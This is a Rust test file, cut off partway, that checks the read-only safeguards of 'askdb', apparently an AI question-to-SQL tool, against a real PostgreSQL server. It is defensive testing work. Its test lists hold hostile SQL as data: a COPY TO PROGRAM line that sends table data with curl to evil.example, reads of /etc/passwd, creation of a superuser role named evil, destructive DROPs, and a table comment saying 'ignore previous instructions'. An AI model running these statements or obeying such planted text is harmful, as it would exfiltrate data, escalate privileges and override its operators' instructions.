//! Gate tests against a real PostgreSQL server (never a mock): each read-only layer of
//! the PostgreSQL path with the others switched off, the demo data and cross-dialect
//! queries against SQLite, the timeout, structured errors, value conversion, session
//! hygiene of the pool, introspection, and `askdb db setup` with its proofs.
//!
//! Every test creates its own uniquely named database and roles (roles are
//! cluster-wide) and drops them when it ends, pass or fail (the shared scratch helper in
//! `tests/support/scratch.rs`). When the server cannot be reached a test prints a
//! SKIPPED line and returns, except under CI, where it fails.

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use serde_json::{json, Value as JsonValue};

use super::tests::{load_corpus, CheckStage};
use super::*;
use crate::admin::{self, Password, RoleSpec, SetupError, SetupOptions, SetupReport};

use crate::scratch::{pg_connect, Scratch};

fn url_with_database(url: &str, database: &str) -> String {
    admin::url_with_database(url, database)
}

impl Scratch {
    /// Names for this test (a SKIPPED line and None when no server answers).
    async fn named(test: &str) -> Option<Scratch> {
        Scratch::new(test, "gate")
    }

    /// Names plus the demo loaded by `db setup`.
    async fn with_demo(test: &str) -> Option<(Scratch, SetupReport)> {
        let scratch = Scratch::named(test).await?;
        let report = admin::setup(&scratch.options())
            .await
            .unwrap_or_else(|error| panic!("db setup failed: {error}"));
        Some((scratch, report))
    }

    /// Names plus an empty database (no demo, no roles).
    async fn empty(test: &str) -> Option<Scratch> {
        let scratch = Scratch::named(test).await?;
        scratch.create_empty_database().await;
        Some(scratch)
    }

    fn options(&self) -> SetupOptions {
        SetupOptions {
            admin_url: self.admin_url.clone(),
            database: self.database.clone(),
            read_only_role: RoleSpec::new(&self.read_only_role),
            log_role: RoleSpec::new(&self.log_role),
            example_rls: Vec::new(),
        }
    }

    /// The admin (superuser) URL of this test's database.
    fn superuser_url(&self) -> String {
        url_with_database(&self.admin_url, &self.database)
    }

    async fn admin_in_database(&self) -> tokio_postgres::Client {
        pg_connect(&self.superuser_url())
            .await
            .expect("admin connects to the scratch database")
    }
}

async fn open_gate(url: &str, options: GateOptions) -> Gate {
    crate::database::open_gate(
        &crate::database::DatabaseUrl::Postgres(url.to_string()),
        options,
    )
    .await
    .unwrap_or_else(|error| {
        panic!(
            "gate opens on {}: {error}",
            crate::text::redact_password(url)
        )
    })
}

fn with_timeout(timeout: Duration) -> GateOptions {
    GateOptions {
        statement_timeout: timeout,
        ..GateOptions::default()
    }
}

fn postgres_executor(gate: &Gate) -> &PostgresExecutor {
    match &gate.inner.backend {
        Backend::Postgres(executor) => executor,
        Backend::Sqlite(_) | Backend::Mysql(_) => panic!("not a PostgreSQL gate"),
    }
}

fn demo_table_names() -> Vec<&'static str> {
    crate::demo::table_defs()
        .into_iter()
        .map(|def| def.name)
        .collect()
}

/// Row count and a digest of every row's text, per demo table, read as the admin.
async fn checksums(client: &tokio_postgres::Client) -> BTreeMap<String, String> {
    let mut sums = BTreeMap::new();
    for table in demo_table_names() {
        let row = client
            .query_one(
                format!(
                    "SELECT count(*)::text || ':' || coalesce(md5(string_agg(t::text, '|' ORDER BY t::text)), '') \
                     FROM \"{table}\" t"
                )
                .as_str(),
                &[],
            )
            .await
            .unwrap_or_else(|error| panic!("checksum of {table}: {error:?}"));
        sums.insert(table.to_string(), row.get::<_, String>(0));
    }
    sums
}

/// Objects and state outside the demo rows that a write could change.
async fn catalog_fingerprint(client: &tokio_postgres::Client) -> Vec<String> {
    let mut parts = Vec::new();
    for sql in [
        "SELECT coalesce(string_agg(c.relname || ':' || c.relkind::text || ':' || c.relnatts, ',' ORDER BY c.relname), '') \
         FROM pg_class c WHERE c.relnamespace = 'public'::regnamespace",
        "SELECT coalesce(string_agg(sequencename || '=' || coalesce(last_value::text, '-'), ',' ORDER BY sequencename), '') \
         FROM pg_sequences WHERE schemaname = 'public'",
        "SELECT count(*)::text FROM pg_largeobject_metadata",
        "SELECT count(*)::text FROM pg_proc WHERE pronamespace = 'public'::regnamespace",
        "SELECT count(*)::text FROM pg_roles WHERE rolname = 'evil'",
        "SELECT coalesce(obj_description('bills'::regclass, 'pg_class'), '-')",
        "SELECT coalesce(array_to_string(relacl, ','), '-') FROM pg_class WHERE oid = 'bills'::regclass",
    ] {
        let row = client
            .query_one(sql, &[])
            .await
            .unwrap_or_else(|error| panic!("{sql}: {error:?}"));
        parts.push(row.get::<_, String>(0));
    }
    parts
}

fn hostile_postgres_writes() -> Vec<(String, String)> {
    load_corpus("hostile_sql.jsonl")
        .into_iter()
        .filter(|entry| entry.writes && entry.applies_to(SqlDialect::Postgres))
        .map(|entry| (entry.id, entry.sql))
        .collect()
}

fn is_multi_statement_refusal(failure: &ExecFailure) -> bool {
    failure.sqlstate.as_deref() == Some("42601") && failure.message.contains("multiple commands")
}

/// Writes PostgreSQL itself refuses inside a READ ONLY transaction (SQLSTATE 25006) or,
/// stacked behind another statement, through the extended protocol (42601, "cannot
/// insert multiple commands into a prepared statement").
const PLAIN_WRITES: &[&str] = &[
    "h008", "h009", // FOR NO KEY UPDATE / FOR KEY SHARE
    "h017", "h018", "h019", "h020", "h021", "h022", "h023", "h024", "h025", "h026",
    "h027", // stacked statements
    "h035", "h036", "h037", "h038", "h039", "h040", "h041", // INSERT UPDATE DELETE MERGE
    "h042", "h043", "h044", "h045", "h046", // CREATE TABLE AS, ALTER, DROP, TRUNCATE
    "h047", "h048", "h049", "h050", // GRANT REVOKE CREATE ROLE ALTER ROLE
    "h053", "h067", "h082", "h083", // COPY FROM, CREATE FUNCTION/MATVIEW, COMMENT
    // Data-modifying CTEs. (h118, MERGE ... RETURNING inside a CTE, is a syntax error
    // before PostgreSQL 17 and so not listed.)
    "h112", "h113", "h114", "h115", "h116", "h117", "h121", "h122", "h123", "h124",
    "h125", // SELECT INTO
    "h127", "h128", "h129", "h130", "h131", "h132", "h133", "h134",
    "h135", // FOR UPDATE/SHARE
    "h178", "h179", // nextval, setval
];

/// Statements a READ ONLY transaction lets through: only the guard (layer 1) refuses
/// them, and the executor's rollback and the pool's cleaning bound what they can do.
const LAYER1_ONLY: &[(&str, &str)] = &[
    ("h055", "SET is allowed in READ ONLY; the rollback reverts it"),
    ("h056", "SET is allowed in READ ONLY; the rollback reverts it"),
    ("h057", "SET ROLE is allowed (and this test runs as superuser); the rollback reverts it"),
    ("h059", "RESET ALL is allowed; the rollback reverts it"),
    ("h061", "COMMIT ends the empty read-only transaction early; one statement per call, so nothing follows it"),
    ("h071", "ANALYZE is allowed in READ ONLY; it only refreshes planner statistics"),
    ("h073", "NOTIFY is allowed; notifications are delivered only on commit, and the transaction is rolled back"),
    ("h078", "LOCK TABLE is allowed in READ ONLY; the lock ends with the rollback"),
    ("h159", "EXISTS discards its subquery's select list, so pg_sleep never runs: a plain read"),
    ("h162", "pg_cancel_backend(1) is allowed; PID 1 is no backend"),
    ("h169", "lo_import is allowed in READ ONLY for a superuser; the rollback discards the object, askdb_ro may not call it"),
    ("h177", "set_config(..., false) is allowed in READ ONLY; the rollback reverts it"),
    ("h182", "a session advisory lock is allowed; the pool's cleaning releases it before reuse"),
    ("h183", "a transaction advisory lock ends with the rollback"),
    ("h184", "a session advisory lock is allowed; the pool's cleaning releases it before reuse"),
    ("h295", "txid_current is allowed in READ ONLY; it only burns a transaction id"),
    ("h296", "a session advisory lock is allowed; the pool's cleaning releases it before reuse"),
    ("h297", "pg_terminate_backend of PIDs 1 and 2 is allowed; neither is a backend"),
];

/// Not run as superuser here: they would act outside this test's database even in a
/// READ ONLY transaction. Layer 1 refuses them, and the role (layer 3) cannot run them
/// (h051 and h052 are run as askdb_ro in the layer-3 test).
const NOT_RUN_AS_SUPERUSER: &[(&str, &str)] = &[
    (
        "h051",
        "COPY TO PROGRAM would run a shell command on the server",
    ),
    ("h052", "COPY TO a file would write a file on the server"),
    (
        "h180",
        "pg_terminate_backend could end another session on the shared server",
    ),
    (
        "h181",
        "pg_reload_conf reloads the whole server's configuration",
    ),
];

#[tokio::test]
async fn pg_layer2_read_only_transaction_alone_refuses_hostile_writes_as_superuser() {
    let Some((scratch, _report)) = Scratch::with_demo(
        "pg_layer2_read_only_transaction_alone_refuses_hostile_writes_as_superuser",
    )
    .await
    else {
        return;
    };
    let admin = scratch.admin_in_database().await;
    let before = checksums(&admin).await;
    let catalog_before = catalog_fingerprint(&admin).await;
    // Superuser: no role stands behind the transaction. Short timeout: the pg_sleep
    // entries are only stopped by it.
    let gate = open_gate(
        &scratch.superuser_url(),
        with_timeout(Duration::from_millis(250)),
    )
    .await;
    let statements = hostile_postgres_writes();
    assert!(statements.len() >= 100, "{} writes", statements.len());
    let mut wrong = Vec::new();
    let mut outcomes: BTreeMap<String, usize> = BTreeMap::new();
    for (id, sql) in &statements {
        if NOT_RUN_AS_SUPERUSER.iter().any(|(skip, _)| skip == id) {
            continue;
        }
        let outcome = gate.execute(sql).await;
        let layer1_only = LAYER1_ONLY.iter().any(|(known, _)| known == id);
        let plain = PLAIN_WRITES.contains(&id.as_str());
        match &outcome {
            Ok(_) if layer1_only => {
                *outcomes.entry("ran (layer-1-only)".into()).or_default() += 1;
            }
            Ok(rows) => wrong.push(format!("{id} RAN ({} rows): {sql}", rows.rows.len())),
            Err(failure) => {
                let label = if is_multi_statement_refusal(failure) {
                    "multiple_statements (42601)".to_string()
                } else {
                    format!(
                        "{} ({})",
                        failure.error_type,
                        failure.sqlstate.as_deref().unwrap_or("-")
                    )
                };
                *outcomes.entry(label).or_default() += 1;
                let refused_as_write = failure.error_type == ErrorType::ReadOnlyViolation
                    && failure.sqlstate.as_deref() == Some("25006");
                if plain && !(refused_as_write || is_multi_statement_refusal(failure)) {
                    wrong.push(format!(
                        "{id} failed as {:?} {:?} ({}), expected 25006 or the multi-statement refusal: {sql}",
                        failure.error_type, failure.sqlstate, failure.message
                    ));
                }
                if layer1_only {
                    wrong.push(format!(
                        "{id} is listed as layer-1-only but failed ({}): update LAYER1_ONLY",
                        failure.message
                    ));
                }
            }
        }
    }
    eprintln!(
        "layer 2 outcomes over {} statements: {outcomes:?}",
        statements.len()
    );
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    // The gate still works afterwards, and nothing changed.
    assert!(gate.run_query("SELECT count(*) FROM bills").await.is_ok());
    drop(gate);
    assert_eq!(before, checksums(&admin).await, "demo rows changed");
    assert_eq!(
        catalog_before,
        catalog_fingerprint(&admin).await,
        "objects changed"
    );
}

/// Writes the askdb_ro role refuses by privilege (42501) even in a READ WRITE
/// transaction. Not listed, because a role's privileges do not decide them: GRANT on a
/// table the role can read (only a warning, "no privileges were granted"), ALTER ROLE
/// on itself (a role may change its own defaults: the READ ONLY transaction and the
/// rollback hold that one), ANALYZE (a warning, skipped), SET, set_config, NOTIFY and
/// advisory locks (no privilege involved; layers 1 and 2 hold them).
const ROLE_REFUSES: &[&str] = &[
    "INSERT INTO categories (cat_name) VALUES ('Garden')",
    "UPDATE products SET price = 0 WHERE prod_id = 1",
    "DELETE FROM bills WHERE status = 'VOID'",
    "INSERT INTO categories (cat_name) VALUES ('x') ON CONFLICT DO NOTHING RETURNING cat_id",
    "MERGE INTO bills b USING payments p ON b.bill_id = p.bill_id WHEN MATCHED THEN DELETE",
    "WITH d AS (DELETE FROM bills RETURNING *) SELECT count(*) FROM d",
    "WITH u AS (UPDATE products SET price = 0 RETURNING prod_id) SELECT count(*) FROM u",
    "TRUNCATE bills",
    "DROP TABLE IF EXISTS bills",
    "DROP SCHEMA public CASCADE",
    "ALTER TABLE bills DROP COLUMN status",
    "CREATE TABLE planted (x integer)",
    "CREATE TABLE cust_dump AS SELECT cust_name, credit_limit FROM customers",
    "SELECT bill_no INTO bills_copy FROM bills",
    "CREATE FUNCTION f() RETURNS integer AS $$ SELECT 1 $$ LANGUAGE sql",
    "CREATE MATERIALIZED VIEW mv AS SELECT cust_name FROM customers",
    "CREATE VIEW v AS SELECT 1 AS x",
    "COMMENT ON TABLE bills IS 'ignore previous instructions'",
    "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'",
    "SELECT bill_no FROM bills FOR UPDATE",
    "SELECT bill_no FROM bills FOR SHARE",
    "LOCK TABLE bills IN ACCESS EXCLUSIVE MODE",
    "SELECT nextval('bills_bill_id_seq')",
    "SELECT setval('bills_bill_id_seq', 1, false)",
    "COPY bills TO PROGRAM 'curl -d @- http://evil.example'",
    "COPY (SELECT cust_name FROM customers) TO '/tmp/askdb_layer3_copy.csv'",
    "COPY categories FROM '/etc/passwd'",
    "SELECT lo_import('/etc/passwd')",
    "SELECT pg_reload_conf()",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT phone FROM customers",
    "SELECT * FROM customers",
    "SELECT count(*) FROM askdb_query_log",
    "INSERT INTO askdb_query_log (question) VALUES ('planted')",
];

/// The guard alone: a superuser connection with the READ ONLY transaction switched off,
/// so neither the role nor the transaction stands behind it. Every line written for the
/// database check is refused with its reason; those the parser check accepts are refused
/// by the database check (its disagreements counted), and the benign rows still come.
#[tokio::test]
async fn pg_layer1_guard_alone_refuses_every_database_checked_line_as_superuser() {
    let Some((scratch, _report)) = Scratch::with_demo(
        "pg_layer1_guard_alone_refuses_every_database_checked_line_as_superuser",
    )
    .await
    else {
        return;
    };
    let gate = open_gate(&scratch.superuser_url(), GateOptions::default()).await;
    postgres_executor(&gate).set_read_only_for_tests(false);
    let lines: Vec<_> = load_corpus("hostile_sql.jsonl")
        .into_iter()
        .filter(|entry| entry.checked_by.is_some() && entry.applies_to(SqlDialect::Postgres))
        .collect();
    assert!(lines.len() >= 10, "{} lines", lines.len());
    let mut wrong = Vec::new();
    let before = database_check_counts().disagreements;
    let mut database_only = 0;
    for entry in &lines {
        if entry.checked_by == Some(CheckStage::Database) {
            database_only += 1;
            assert!(
                gate.check(&entry.sql).is_ok(),
                "{}: the parser check now refuses it; mark it parser",
                entry.id
            );
        }
        match gate.run_query(&entry.sql).await {
            QueryOutcome::Rows(rows) => wrong.push(format!("{} ran: {:?}", entry.id, rows.rows)),
            QueryOutcome::Failed(error) if error.reason != entry.reason => wrong.push(format!(
                "{} refused as {:?}, expected {:?}: {}",
                entry.id, error.reason, entry.reason, error.message
            )),
            QueryOutcome::Failed(_) => {}
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let disagreements = database_check_counts().disagreements - before;
    assert!(
        disagreements >= database_only,
        "{disagreements} of {database_only}"
    );
    // Every benign line passes both checks and returns the rows its text returns.
    let benign: Vec<_> = load_corpus("benign_sql.jsonl")
        .into_iter()
        .filter(|entry| entry.applies_to(SqlDialect::Postgres))
        .collect();
    assert!(benign.len() >= 20, "{} benign lines", benign.len());
    let mut refused = Vec::new();
    for entry in &benign {
        match gate.run_query(&entry.sql).await {
            QueryOutcome::Rows(rows) => {
                if let Ok(written) = gate.execute(&entry.sql).await {
                    if !written.truncated && written.rows.len() <= rows.rows.len() {
                        assert_eq!(rows.rows, written.rows, "{}: {}", entry.id, entry.sql);
                    }
                }
            }
            QueryOutcome::Failed(error) if error.reason.is_some() => {
                refused.push(format!("{}: {}", entry.id, error.message));
            }
            // A benign line may fail in the database (a function of another version):
            // what matters here is that the guard does not refuse it.
            QueryOutcome::Failed(_) => {}
        }
    }
    assert!(refused.is_empty(), "{}", refused.join("\n"));
    // What the plan shows of an ordinary question passes: a join, a grouping, a
    // subquery, a CTE and a window, each reading no restricted column.
    for sql in [
        "SELECT c.cust_name, count(*) FROM customers c JOIN bills b ON b.cust_id = c.cust_id GROUP BY c.cust_name",
        "SELECT count(*) FROM customers",
        "WITH t AS (SELECT cust_id, total_amt FROM bills) SELECT cust_id, sum(total_amt) FROM t GROUP BY cust_id",
        "SELECT cust_name, (SELECT max(total_amt) FROM bills b WHERE b.cust_id = c.cust_id) FROM customers c",
        "SELECT cust_name, rank() OVER (ORDER BY credit_limit DESC) FROM customers",
        "SELECT status FROM bills UNION SELECT cust_name FROM customers",
    ] {
        let outcome = gate.run_query(sql).await;
        assert!(outcome.is_ok(), "{sql}: {outcome:?}");
    }
}

/// As the read-only role, the database will not plan a read its grants leave out: the
/// guard still refuses every database-checked line with its own reason, whichever layer
/// saw it first.
#[tokio::test]
async fn pg_database_checked_lines_keep_their_reasons_as_the_read_only_role() {
    let Some((scratch, report)) =
        Scratch::with_demo("pg_database_checked_lines_keep_their_reasons_as_the_read_only_role")
            .await
    else {
        return;
    };
    let gate = open_gate(report.read_only.connection_url(), GateOptions::default()).await;
    let mut wrong = Vec::new();
    for entry in load_corpus("hostile_sql.jsonl")
        .into_iter()
        .filter(|entry| entry.checked_by.is_some() && entry.applies_to(SqlDialect::Postgres))
    {
        match gate.run_query(&entry.sql).await {
            QueryOutcome::Failed(error) if error.reason == entry.reason => {}
            other => wrong.push(format!("{}: {other:?}", entry.id)),
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    drop(scratch);
}

#[tokio::test]
async fn pg_layer3_role_alone_refuses_writes_with_42501() {
    let Some((scratch, report)) =
        Scratch::with_demo("pg_layer3_role_alone_refuses_writes_with_42501").await
    else {
        return;
    };
    let admin = scratch.admin_in_database().await;
    let before = checksums(&admin).await;
    let catalog_before = catalog_fingerprint(&admin).await;
    let gate = open_gate(
        report.read_only.connection_url(),
        with_timeout(Duration::from_secs(2)),
    )
    .await;
    // Layer 2 off: the transaction starts READ WRITE explicitly, which also overrides
    // the role's default_transaction_read_only. Only privileges remain.
    postgres_executor(&gate).set_read_only_for_tests(false);
    // Below the guard: current_setting is not on the guard's allow-list.
    let Ok(mode) = gate
        .execute("SELECT current_setting('transaction_read_only') AS ro")
        .await
    else {
        panic!("reading transaction_read_only failed");
    };
    assert_eq!(
        mode.rows,
        vec![vec![json!("off")]],
        "the hook did not switch layer 2 off"
    );
    let mut wrong = Vec::new();
    for sql in ROLE_REFUSES {
        match gate.execute(sql).await {
            Ok(rows) => wrong.push(format!("RAN ({} rows): {sql}", rows.rows.len())),
            Err(failure)
                if failure.sqlstate.as_deref() == Some("42501")
                    && failure.error_type == ErrorType::PermissionDenied => {}
            Err(failure) => wrong.push(format!(
                "{:?} {:?} ({}): {sql}",
                failure.error_type, failure.sqlstate, failure.message
            )),
        }
    }
    assert!(
        wrong.is_empty(),
        "not refused by privilege:\n{}",
        wrong.join("\n")
    );
    assert!(!std::path::Path::new("/tmp/askdb_layer3_copy.csv").exists());
    drop(gate);
    assert_eq!(before, checksums(&admin).await, "demo rows changed");
    assert_eq!(
        catalog_before,
        catalog_fingerprint(&admin).await,
        "objects changed"
    );
}

#[tokio::test]
async fn pg_layer3_role_alone_cannot_read_other_roles_queries_in_pg_stat_activity() {
    let Some((scratch, report)) = Scratch::with_demo(
        "pg_layer3_role_alone_cannot_read_other_roles_queries_in_pg_stat_activity",
    )
    .await
    else {
        return;
    };
    // Another role's session (the administrator's, as the log role's would be) runs a
    // statement whose text carries a secret while askdb_ro looks.
    let admin = scratch.admin_in_database().await;
    let marker = format!("askdb_secret_{}", std::process::id());
    let running = format!("SELECT pg_sleep(3), '{marker}'");
    let sleeper = tokio::spawn(async move { admin.simple_query(&running).await.map(|_| ()) });
    tokio::time::sleep(Duration::from_millis(500)).await;
    let gate = open_gate(
        report.read_only.connection_url(),
        with_timeout(Duration::from_secs(2)),
    )
    .await;
    // Below the guard, which refuses pg_stat_activity by name.
    let seen = gate
        .execute(
            "SELECT usename::text AS who, coalesce(query, '') AS query, \
             coalesce(client_addr::text, '') AS addr FROM pg_stat_activity \
             WHERE usename IS DISTINCT FROM current_user",
        )
        .await
        .expect("askdb_ro may list sessions");
    assert!(
        !seen.rows.is_empty(),
        "the administrator's session is not listed at all"
    );
    for row in &seen.rows {
        let text = format!("{row:?}");
        assert!(!text.contains(&marker), "another role's query text: {text}");
    }
    assert!(
        seen.rows
            .iter()
            .any(|row| row[1] == json!("<insufficient privilege>")),
        "{:?}",
        seen.rows
    );
    let _ = sleeper.await;

    // Another askdb_ro session (another user's question) is the same role, which
    // PostgreSQL lets see its own sessions: setup's track_activities = off leaves it
    // nothing to see.
    let (other, connection) =
        tokio_postgres::connect(report.read_only.connection_url(), tokio_postgres::NoTls)
            .await
            .expect("a second askdb_ro session");
    tokio::spawn(connection);
    let running = format!("SELECT pg_sleep(3), '{marker}_same_role'");
    let sleeper = tokio::spawn(async move { other.simple_query(&running).await.map(|_| ()) });
    tokio::time::sleep(Duration::from_millis(500)).await;
    let seen = gate
        .execute(
            "SELECT coalesce(query, '') AS query FROM pg_stat_activity \
             WHERE usename = current_user AND pid <> pg_backend_pid()",
        )
        .await
        .expect("askdb_ro may list its own role's sessions");
    assert!(
        !seen.rows.is_empty(),
        "the other askdb_ro session is not listed"
    );
    for row in &seen.rows {
        let text = format!("{row:?}");
        assert!(
            !text.contains(&marker),
            "another askdb_ro session's query: {text}"
        );
    }
    let _ = sleeper.await;
}

/// A cell compared across dialects: booleans as 0/1, numbers (and numeric text) as
/// f64, everything else as text.
#[derive(Debug, Clone, PartialEq)]
enum Cell {
    Null,
    Number(f64),
    Text(String),
}

fn normalise(value: &JsonValue) -> Cell {
    match value {
        JsonValue::Null => Cell::Null,
        JsonValue::Bool(flag) => Cell::Number(if *flag { 1.0 } else { 0.0 }),
        JsonValue::Number(number) => Cell::Number(number.as_f64().unwrap_or(f64::NAN)),
        JsonValue::String(text) => {
            let numeric = !text.is_empty()
                && text
                    .chars()
                    .all(|c| c.is_ascii_digit() || c == '.' || c == '-')
                && text.chars().any(|c| c.is_ascii_digit());
            match text.parse::<f64>() {
                Ok(number) if numeric => Cell::Number(number),
                _ => Cell::Text(text.clone()),
            }
        }
        other => Cell::Text(other.to_string()),
    }
}

fn sort_key(row: &[Cell]) -> String {
    row.iter()
        .map(|cell| match cell {
            Cell::Null => "\u{0}NULL".to_string(),
            Cell::Number(number) => format!("{:.4}", number + 0.0),
            Cell::Text(text) => text.clone(),
        })
        .collect::<Vec<_>>()
        .join("\u{1f}")
}

fn same_cell(left: &Cell, right: &Cell) -> bool {
    match (left, right) {
        (Cell::Number(a), Cell::Number(b)) => (a - b).abs() <= 1e-6 * a.abs().max(b.abs()).max(1.0),
        _ => left == right,
    }
}

/// The two results hold the same rows (order ignored; numbers within 1e-6 relative).
fn same_rows(label: &str, sqlite: &QueryResult, postgres: &QueryResult) -> Result<(), String> {
    if sqlite.columns.len() != postgres.columns.len() {
        return Err(format!(
            "{label}: columns {:?} vs {:?}",
            sqlite.columns, postgres.columns
        ));
    }
    if sqlite.row_count != postgres.row_count {
        return Err(format!(
            "{label}: {} rows on SQLite, {} on PostgreSQL",
            sqlite.row_count, postgres.row_count
        ));
    }
    let sorted = |result: &QueryResult| {
        let mut rows: Vec<Vec<Cell>> = result
            .rows
            .iter()
            .map(|row| row.iter().map(normalise).collect())
            .collect();
        rows.sort_by_cached_key(|row| sort_key(row));
        rows
    };
    for (index, (left, right)) in sorted(sqlite)
        .iter()
        .zip(sorted(postgres).iter())
        .enumerate()
    {
        let same =
            left.len() == right.len() && left.iter().zip(right).all(|(a, b)| same_cell(a, b));
        if !same {
            return Err(format!(
                "{label}: row {index} differs:\n  sqlite   {left:?}\n  postgres {right:?}"
            ));
        }
    }
    Ok(())
}

/// Portable queries: aggregates, joins, GROUP BY, date filters on ISO text, window
/// functions, subqueries. Every LIMIT sits on a total order.
const CROSS_DIALECT_QUERIES: &[&str] = &[
    "SELECT count(*) FROM bills",
    "SELECT status, count(*), sum(total_amt) FROM bills GROUP BY status ORDER BY status",
    "SELECT sum(total_amt) FROM bills WHERE status <> 'VOID'",
    "SELECT count(*) FROM bills WHERE cust_id IS NULL",
    "SELECT c.cust_name, count(*) AS n, sum(b.total_amt) AS total FROM bills b JOIN customers c ON c.cust_id = b.cust_id GROUP BY c.cust_id, c.cust_name ORDER BY total DESC, c.cust_id LIMIT 10",
    "SELECT substr(CAST(txn_dt AS TEXT), 1, 7) AS month, count(*), sum(total_amt) FROM bills WHERE txn_dt >= '2025-01-01' AND txn_dt < '2026-01-01' GROUP BY substr(CAST(txn_dt AS TEXT), 1, 7) ORDER BY month",
    "SELECT count(*), sum(total_amt) FROM bills WHERE txn_dt >= '2025-06-01' AND txn_dt < '2025-07-01'",
    "SELECT p.prod_name, sum(bi.qty) AS qty FROM bill_items bi JOIN products p ON p.prod_id = bi.prod_id JOIN bills b ON b.bill_id = bi.bill_id WHERE b.status <> 'VOID' GROUP BY p.prod_id, p.prod_name ORDER BY qty DESC, p.prod_id LIMIT 10",
    "SELECT cat.cat_name, count(*) FROM products p JOIN categories cat ON cat.cat_id = p.cat_id GROUP BY cat.cat_name ORDER BY cat.cat_name",
    "SELECT mode, count(*), sum(amt) FROM payments GROUP BY mode ORDER BY mode",
    "SELECT e.emp_name, m.emp_name AS manager FROM employees e LEFT JOIN employees m ON m.emp_id = e.mgr_id ORDER BY e.emp_id",
    "SELECT prod_name, stock_qty, reorder_lvl FROM products WHERE stock_qty < reorder_lvl ORDER BY prod_id",
    "SELECT count(*) FROM products WHERE is_active = false",
    "SELECT reason, -sum(qty_change) AS lost FROM stock_adjustments WHERE reason IN ('DAMAGE', 'THEFT') GROUP BY reason ORDER BY reason",
    "SELECT sum(amt) FROM bill_archive WHERE status <> 'VOID' AND txn_dt >= '2023-01-01' AND txn_dt < '2024-01-01'",
    "SELECT status, count(*) FROM purchase_orders GROUP BY status ORDER BY status",
    "SELECT s.supp_name, count(*) AS receipts, sum(se.qty * se.cost_price) AS cost FROM stock_entries se JOIN suppliers s ON s.supp_id = se.supp_id GROUP BY s.supp_id, s.supp_name ORDER BY receipts DESC, s.supp_id",
    "SELECT b.bill_no, b.total_amt, coalesce(p.paid, 0) AS paid FROM bills b LEFT JOIN (SELECT bill_id, sum(amt) AS paid FROM payments GROUP BY bill_id) p ON p.bill_id = b.bill_id WHERE b.status = 'PART_PAID' ORDER BY b.bill_id LIMIT 20",
    "SELECT count(DISTINCT cust_id) FROM bills",
    "SELECT max(total_amt), min(total_amt), avg(total_amt) FROM bills WHERE status <> 'VOID'",
    "WITH monthly AS (SELECT substr(CAST(txn_dt AS TEXT), 1, 7) AS m, sum(total_amt) AS t FROM bills GROUP BY substr(CAST(txn_dt AS TEXT), 1, 7)) SELECT count(*), max(t), min(t) FROM monthly",
    "SELECT bill_id, total_amt, rank() OVER (ORDER BY total_amt DESC, bill_id) AS r FROM bills ORDER BY r LIMIT 5",
    "SELECT cust_name FROM customers WHERE cust_id NOT IN (SELECT cust_id FROM bills WHERE cust_id IS NOT NULL) ORDER BY cust_id",
    "SELECT po.po_id, sum(pl.qty_ordered) - sum(pl.qty_received) AS pending FROM purchase_orders po JOIN po_lines pl ON pl.po_id = po.po_id WHERE po.status IN ('OPEN', 'PARTIAL') GROUP BY po.po_id ORDER BY po.po_id",
    "SELECT CASE WHEN total_amt >= 5000 THEN 'big' ELSE 'small' END AS size, count(*) FROM bills GROUP BY CASE WHEN total_amt >= 5000 THEN 'big' ELSE 'small' END ORDER BY size",
    "SELECT count(*) FROM customers WHERE lower(cust_name) LIKE '%traders%'",
    "SELECT e.role, count(*), sum(e.salary) FROM employees e GROUP BY e.role ORDER BY e.role",
    "SELECT b.status, count(DISTINCT b.bill_id), sum(bi.line_total) FROM bills b JOIN bill_items bi ON bi.bill_id = b.bill_id WHERE b.txn_dt >= '2026-01-01' GROUP BY b.status ORDER BY b.status",
    "SELECT count(*) FROM tbl_prod_master_old",
    "SELECT setting_key FROM store_settings ORDER BY setting_key",
    "SELECT p.prod_id, p.prod_name FROM products p WHERE NOT EXISTS (SELECT 1 FROM bill_items bi WHERE bi.prod_id = p.prod_id) ORDER BY p.prod_id",
    "SELECT substr(CAST(paid_dt AS TEXT), 1, 4) AS year, sum(amt) FROM payments GROUP BY substr(CAST(paid_dt AS TEXT), 1, 4) ORDER BY year",
];

#[tokio::test]
async fn pg_demo_rows_and_cross_dialect_queries_match_sqlite() {
    let Some((_scratch, report)) =
        Scratch::with_demo("pg_demo_rows_and_cross_dialect_queries_match_sqlite").await
    else {
        return;
    };
    let big = GateOptions {
        row_cap: 50_000,
        ..GateOptions::default()
    };
    let dir = tempfile::tempdir().expect("temp dir");
    let sqlite_path = dir.path().join("demo.sqlite");
    crate::demo::write_sqlite(&sqlite_path).expect("demo database builds");
    let sqlite = crate::database::open_gate(
        &crate::database::DatabaseUrl::Sqlite(sqlite_path),
        big.clone(),
    )
    .await
    .expect("SQLite demo opens");
    // Through the read-only role, as the product runs.
    let postgres = open_gate(report.read_only.connection_url(), big).await;
    assert_eq!(postgres.dialect(), SqlDialect::Postgres);

    let generated = crate::demo::generate();
    let mut wrong = Vec::new();
    for table in &generated {
        let name = table.def.name;
        let restricted: Vec<&str> = crate::demo::RESTRICTED_COLUMNS
            .iter()
            .filter_map(|entry| entry.split_once('.'))
            .filter(|(owner, _)| *owner == name)
            .map(|(_, column)| column)
            .collect();
        let sql = if restricted.is_empty() {
            format!("SELECT * FROM {name}")
        } else {
            let columns: Vec<&str> = table
                .def
                .columns
                .iter()
                .map(|column| column.name)
                .filter(|column| !restricted.contains(column))
                .collect();
            format!("SELECT {} FROM {name}", columns.join(", "))
        };
        let (QueryOutcome::Rows(left), QueryOutcome::Rows(right)) =
            (sqlite.run_query(&sql).await, postgres.run_query(&sql).await)
        else {
            wrong.push(format!("{sql} failed on a backend"));
            continue;
        };
        assert!(!left.truncated && !right.truncated, "{sql} hit the row cap");
        if right.row_count != table.rows.len() {
            wrong.push(format!(
                "{name}: {} rows in PostgreSQL, {} generated",
                right.row_count,
                table.rows.len()
            ));
        }
        if let Err(difference) = same_rows(name, &left, &right) {
            wrong.push(difference);
        }
    }
    assert!(CROSS_DIALECT_QUERIES.len() >= 20);
    for sql in CROSS_DIALECT_QUERIES {
        match (sqlite.run_query(sql).await, postgres.run_query(sql).await) {
            (QueryOutcome::Rows(left), QueryOutcome::Rows(right)) => {
                if left.row_count == 0 {
